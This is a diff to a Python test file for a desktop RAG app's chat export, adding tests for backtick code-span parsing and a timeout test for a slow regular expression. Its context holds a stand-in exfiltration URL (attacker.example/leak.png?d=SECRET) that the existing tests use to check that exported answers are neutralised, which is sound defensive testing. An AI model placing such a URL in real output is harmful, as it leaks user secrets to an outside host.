@@ -7,8 +7,10 @@ from __future__ import annotations
 import re
 
 import markdown
+import pytest
 
-from tinyrag_desktop.chat_export import answer_markdown, export_html, export_markdown
+from tinyrag_desktop.chat_export import answer_markdown, export_html, export_markdown, inert_markdown, markdown_safe
+from tinyrag_desktop.markdown_prep import code_spans
 from tinyrag_desktop.chats import ChatInfo, StoredMessage
 
 LEAK = "http://attacker.example/leak.png?d=SECRET"
@@ -70,3 +72,23 @@ def test_a_mailto_address_spelt_as_a_viewer_decodes_it_loses_attach_too():
         text = export_markdown(ChatInfo("c", "Chat", "", 0, 0),
                                [StoredMessage(1, "user", "hi"), StoredMessage(2, "assistant", f"[us]({address})")])
         assert "attach" not in text and "help@example.org" in text, text
+
+
+@pytest.mark.parametrize("text, spans", [
+    ("a `b` c", ["`b`"]),
+    ("``a ` b`` and `c`", ["``a ` b``", "`c`"]),
+    ("```a``", []),  # no run of three closes it: backticks as written
+    ("` a `` b `", ["` a `` b `"]),  # a run of two inside one of one
+    ("`a\nb`", ["`a\nb`"]),
+    ("x`````y", []),
+])
+def test_a_code_span_is_a_run_of_backticks_closed_by_as_many(text, spans):
+    assert [text[start:end] for start, end, _ticks in code_spans(text)] == spans
+
+
+@pytest.mark.timeout(30)
+def test_a_long_run_of_backticks_in_an_answer_is_exported_at_once():
+    # The code span's regular expression took time quadratic in a run of backticks: about 100 s for these.
+    ticks = "`" * 100_000
+    assert markdown_safe(f"{ticks} <b> `<i>`") == f"{ticks} `<b>` `<i>`"
+    assert inert_markdown(f"a {ticks} <b>") == f"a {ticks} `<b>`"
